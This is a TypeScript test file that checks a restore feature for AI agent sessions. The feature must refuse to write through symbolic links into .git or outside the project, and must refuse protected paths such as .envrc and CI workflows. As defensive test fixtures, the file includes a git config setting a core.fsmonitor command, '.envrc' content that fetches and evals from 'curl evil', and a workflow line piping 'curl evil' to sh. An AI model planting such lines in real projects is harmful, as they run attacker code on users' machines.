/**
 * Restore never writes through a symbolic link (docs/ARCHITECTURE.md 3.11): the attacks are real
 * links in a real project, and everything outside it (a HOME-like sentinel tree) and `.git` are
 * hashed before and after. Restore runs outside the sandbox, so one write through `x -> .git` puts
 * a `core.fsmonitor` command into `.git/config` that the user's next `git status` runs.
 */
import { spawn } from 'node:child_process'
import type { ChildProcess } from 'node:child_process'
import { createHash } from 'node:crypto'
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { EventDataInput } from '../../../main/core/log/index.js'
import { Session } from '../../../main/core/log/index.js'
import { openStore } from '../../../main/core/store/index.js'
import type { Store } from '../../../main/core/store/index.js'
import { protectedPathReason } from '../../../main/core/tools/protected-paths.js'
import { restoreFiles, RestoreError, undoRestore } from '../../../main/core/workspace/restore.js'
import type { RestoreOutcome } from '../../../main/core/workspace/restore.js'
import { SnapshotStore } from '../../../main/core/workspace/snapshot.js'

let dir: string
let project: string
/** A HOME-like tree outside the project: no restore may change a byte of it. */
let outside: string
let store: Store
let snapshots: SnapshotStore
let session: Session

/** The race is closed by using folders through /proc/self/fd (confined.ts); elsewhere it is a known limit. */
const noProcFd = process.platform !== 'linux' || !existsSync('/proc/self/fd')
if (noProcFd) {
  console.warn(
    'skipped: the swap race test needs /proc/self/fd (Linux); confined.ts lists it as a known limit elsewhere',
  )
}

const GIT_CONFIG = '[core]\n\trepositoryformatversion = 0\n'
const EVIL = '[core]\n\tfsmonitor = "touch /tmp/pwned-by-restore"\n'

beforeEach(() => {
  dir = realpathSync(mkdtempSync(join(tmpdir(), 'bridle-restore-links-')))
  project = join(dir, 'project')
  mkdirSync(join(project, '.git'), { recursive: true })
  writeFileSync(join(project, '.git', 'config'), GIT_CONFIG)
  writeFileSync(join(project, '.git', 'HEAD'), 'ref: refs/heads/main\n')
  outside = join(dir, 'outside')
  mkdirSync(join(outside, '.ssh'), { recursive: true })
  writeFileSync(join(outside, '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA user@host\n')
  writeFileSync(join(outside, '.bashrc'), 'export PATH=$HOME/bin:$PATH\n')
  writeFileSync(join(outside, 'secret'), 'the user secret\n')
  writeFileSync(join(outside, 'config'), 'outside config\n')
  writeFileSync(join(outside, 'HEAD'), 'outside head\n')
  store = openStore(join(dir, 'bridle.db'))
  snapshots = new SnapshotStore(join(dir, 'snapshots'))
  session = Session.create(store, { projectDir: project })
})

afterEach(() => {
  session.close()
  store.close()
  rmSync(dir, { recursive: true, force: true })
})

/** Every entry under `root` by lstat: files by content hash, links by target, folders by name. */
function fingerprint(root: string, prefix = ''): Record<string, string> {
  const out: Record<string, string> = {}
  for (const name of readdirSync(join(root, prefix)).sort()) {
    const rel = prefix === '' ? name : `${prefix}/${name}`
    const info = lstatSync(join(root, rel))
    if (info.isSymbolicLink()) out[rel] = `link ${readlinkSync(join(root, rel))}`
    else if (info.isDirectory())
      Object.assign(out, { [`${rel}/`]: 'folder' }, fingerprint(root, rel))
    else
      out[rel] = createHash('sha256')
        .update(readFileSync(join(root, rel)))
        .digest('hex')
  }
  return out
}

type DiffFile = EventDataInput<'workspace/diff'>['files'][number]
const put = (text: string) => snapshots.put(Buffer.from(text))
const added = (path: string, text: string): DiffFile => ({
  path,
  status: 'added',
  additions: 1,
  deletions: 0,
  afterHash: put(text),
})
const modified = (path: string, before: string, after: string): DiffFile => ({
  path,
  status: 'modified',
  additions: 1,
  deletions: 1,
  beforeHash: put(before),
  afterHash: put(after),
})

/** A turn that changed `files`, written to match on disk; returns the seq of its diff. */
function turn(files: DiffFile[], write: Record<string, string>): number {
  session.append('turn/start', {})
  session.append('workspace/diff', { files })
  const end = session.length
  session.append('turn/end', { reason: 'completed' })
  for (const [path, text] of Object.entries(write)) {
    mkdirSync(join(project, path, '..'), { recursive: true })
    writeFileSync(join(project, path), text)
  }
  return end
}

const options = (extra: { dryRun?: boolean } = {}) => ({
  store,
  snapshots,
  projectDir: project,
  protectedReason: protectedPathReason,
  // The user overrode the drift warning: the attack must fail even then.
  force: true,
  ...extra,
})
const read = (path: string) => readFileSync(join(project, path), 'utf8')
const skippedOf = (outcome: RestoreOutcome) => (outcome.ok ? outcome.skipped : [])

/** The dry run first (it must name the same refusals), then the restore itself. */
async function restoreTwice(toSeq: number): Promise<RestoreOutcome> {
  const planned = await restoreFiles(session, toSeq, options({ dryRun: true }))
  const done = await restoreFiles(session, toSeq, options())
  expect(planned.ok && done.ok).toBe(true)
  expect(skippedOf(planned)).toEqual(skippedOf(done))
  return done
}

/**
 * History: turn 1 wrote ok.txt and x/config; turn 2 changed both and added x/HEAD. Restoring to
 * turn 1 writes x/config back and removes x/HEAD.
 */
function agentHistory(): number {
  const t1 = turn([added('ok.txt', 'ok 1\n'), added('x/config', EVIL)], {
    'ok.txt': 'ok 1\n',
    'x/config': EVIL,
  })
  turn(
    [
      modified('ok.txt', 'ok 1\n', 'ok 2\n'),
      modified('x/config', EVIL, 'v2\n'),
      added('x/HEAD', 'h\n'),
    ],
    {
      'ok.txt': 'ok 2\n',
      'x/config': 'v2\n',
      'x/HEAD': 'h\n',
    },
  )
  return t1
}

/** Replaces the folder x with a symbolic link to `target`. */
function swapForLink(target: string): void {
  rmSync(join(project, 'x'), { recursive: true })
  symlinkSync(target, join(project, 'x'))
}

describe('restore and symbolic links', () => {
  it('refuses x/config and x/HEAD when x is now a link to .git, names them, and restores the rest', async () => {
    const t1 = agentHistory()
    swapForLink('.git')
    const git = fingerprint(join(project, '.git'))
    const outcome = await restoreTwice(t1)

    expect(fingerprint(join(project, '.git'))).toEqual(git)
    expect(read('.git/config')).toBe(GIT_CONFIG)
    expect(outcome.ok && outcome.written).toEqual(['ok.txt'])
    expect(outcome.ok && outcome.removed).toEqual([])
    expect(skippedOf(outcome)).toEqual([
      { path: 'x/HEAD', reason: expect.stringMatching(/^x is a symbolic link \(to \.git\)/) },
      { path: 'x/config', reason: expect.stringMatching(/^x is a symbolic link \(to \.git\)/) },
    ])
    expect(read('ok.txt')).toBe('ok 1\n')
  })

  it('refuses a folder that is now a link out of the project, and touches nothing outside', async () => {
    const t1 = agentHistory()
    swapForLink(outside)
    const before = fingerprint(outside)
    const outcome = await restoreTwice(t1)

    expect(fingerprint(outside)).toEqual(before)
    expect(skippedOf(outcome).map((s) => s.path)).toEqual(['x/HEAD', 'x/config'])
    expect(skippedOf(outcome)[0]?.reason).toContain(`x is a symbolic link (to ${outside})`)
    expect(read('ok.txt')).toBe('ok 1\n')
  })

  it('refuses a file that is now a link (out of the project, or into .git), never following it', async () => {
    const t1 = turn([added('a.txt', 'a 1\n'), added('c.txt', EVIL), added('ok.txt', 'ok 1\n')], {
      'a.txt': 'a 1\n',
      'c.txt': EVIL,
      'ok.txt': 'ok 1\n',
    })
    turn(
      [
        modified('a.txt', 'a 1\n', 'a 2\n'),
        modified('c.txt', EVIL, 'c 2\n'),
        modified('ok.txt', 'ok 1\n', 'ok 2\n'),
      ],
      { 'a.txt': 'a 2\n', 'c.txt': 'c 2\n', 'ok.txt': 'ok 2\n' },
    )
    rmSync(join(project, 'a.txt'))
    symlinkSync('../outside/secret', join(project, 'a.txt'))
    rmSync(join(project, 'c.txt'))
    symlinkSync('.git/config', join(project, 'c.txt'))
    const before = { outside: fingerprint(outside), git: fingerprint(join(project, '.git')) }
    const outcome = await restoreTwice(t1)

    expect({ outside: fingerprint(outside), git: fingerprint(join(project, '.git')) }).toEqual(
      before,
    )
    expect(skippedOf(outcome)).toEqual([
      {
        path: 'a.txt',
        reason: expect.stringMatching(/^it is a symbolic link \(to \.\.\/outside\/secret\)/),
      },
      {
        path: 'c.txt',
        reason: expect.stringMatching(/^it is a symbolic link \(to \.git\/config\)/),
      },
    ])
    // The links themselves stay as they are: refused, not replaced.
    expect(readlinkSync(join(project, 'a.txt'))).toBe('../outside/secret')
    expect(read('ok.txt')).toBe('ok 1\n')
  })

  it("refuses protected paths (the tools' list), also where their folder is gone, in the dry run too", async () => {
    const t1 = turn(
      [
        added('.envrc', 'eval "$(curl evil)"\n'),
        added('.github/workflows/ci.yml', 'run: curl evil | sh\n'),
        added('ok.txt', 'ok 1\n'),
      ],
      { 'ok.txt': 'ok 1\n' },
    )
    turn([modified('ok.txt', 'ok 1\n', 'ok 2\n')], { 'ok.txt': 'ok 2\n' })
    const outcome = await restoreTwice(t1)

    expect(skippedOf(outcome)).toEqual([
      {
        path: '.envrc',
        reason: expect.stringMatching(/^it is a protected path \(an environment file direnv/),
      },
      {
        path: '.github/workflows/ci.yml',
        reason: expect.stringMatching(/^it is a protected path \(a CI workflow/),
      },
    ])
    expect(outcome.ok && outcome.written).toEqual(['ok.txt'])
    expect(readdirSync(project).sort()).toEqual(['.git', 'ok.txt'])
  })

  it('undo refuses the same way: a folder swapped for a link after the restore is not written through', async () => {
    const t1 = agentHistory()
    const outcome = await restoreFiles(session, t1, options())
    expect(outcome.ok && outcome.written).toEqual(['ok.txt', 'x/config'])
    swapForLink('.git')
    const git = fingerprint(join(project, '.git'))
    const undone = await undoRestore(session, options())

    expect(fingerprint(join(project, '.git'))).toEqual(git)
    expect(skippedOf(undone).map((s) => s.path)).toEqual(['x/HEAD', 'x/config'])
    expect(read('ok.txt')).toBe('ok 2\n')
  })

  it.skipIf(noProcFd)(
    'never writes outside the project while a folder on the way is swapped for links during the restores',
    async () => {
      const t1 = agentHistory()
      const t2 = session.length - 1
      // x is, in turn, a real folder, a link to .git and a link out of the project.
      rmSync(join(project, 'x'), { recursive: true })
      mkdirSync(join(project, 'xdir'))
      writeFileSync(join(project, 'xdir', 'config'), 'v2\n')
      symlinkSync('.git', join(project, 'xgit'))
      symlinkSync(outside, join(project, 'xout'))
      const before = { outside: fingerprint(outside), git: fingerprint(join(project, '.git')) }
      const swapper = await startSwapper(project)
      const counts = { written: 0, refused: 0, failed: 0 }
      const unexpected: string[] = []
      try {
        const until = Date.now() + 4000
        for (let i = 0; Date.now() < until || i < 20; i++) {
          try {
            const outcome = await restoreFiles(session, i % 2 === 0 ? t1 : t2, options())
            if (outcome.ok && outcome.written.includes('x/config')) counts.written++
            if (skippedOf(outcome).some((s) => s.path === 'x/config')) counts.refused++
          } catch (error) {
            // Swapped between the plan and the write: the restore stops and puts back what it changed.
            const expected =
              error instanceof RestoreError &&
              error.code === 'RESTORE_WRITE_FAILED' &&
              /could not (write|remove) x\/(config|HEAD): /.test(error.message)
            if (expected) counts.failed++
            else unexpected.push(String(error))
          }
        }
      } finally {
        await stop(swapper)
      }
      console.log(
        `swap race: ${JSON.stringify(counts)} restores with x/config written, refused, failed`,
      )
      expect({ outside: fingerprint(outside), git: fingerprint(join(project, '.git')) }).toEqual(
        before,
      )
      expect(unexpected).toEqual([])
      // The race was run: some restores wrote x/config, and some met a link only at the write.
      expect(counts.written).toBeGreaterThan(0)
      expect(counts.failed).toBeGreaterThan(0)
    },
  )
})

/** A child process that renames a folder and two links into place as x, round and round. */
async function startSwapper(cwd: string): Promise<ChildProcess> {
  const script = `
    const fs = require('node:fs')
    const swap = (from) => { try { fs.renameSync(from, 'x') } catch {} ; try { fs.renameSync('x', from) } catch {} }
    process.stdout.write('ready\\n')
    // Ends on its own too, should the test die without stopping it.
    for (const end = Date.now() + 60000; Date.now() < end; ) {
      swap('xdir'); swap('xgit'); swap('xout')
      // A folder the restore made while x was missing: cleared so the round goes on.
      try { if (lstatOr('x')?.isDirectory()) fs.rmSync('x', { recursive: true }) } catch {}
    }
    function lstatOr(p) { try { return fs.lstatSync(p) } catch { return undefined } }
  `
  const child = spawn(process.execPath, ['-e', script], {
    cwd,
    stdio: ['ignore', 'pipe', 'inherit'],
  })
  await new Promise<void>((resolve, reject) => {
    child.once('error', reject)
    child.stdout.once('data', () => resolve())
  })
  return child
}

async function stop(child: ChildProcess): Promise<void> {
  if (child.exitCode !== null || child.signalCode !== null) return
  const exited = new Promise((resolve) => child.once('exit', resolve))
  child.kill('SIGKILL')
  await exited
}
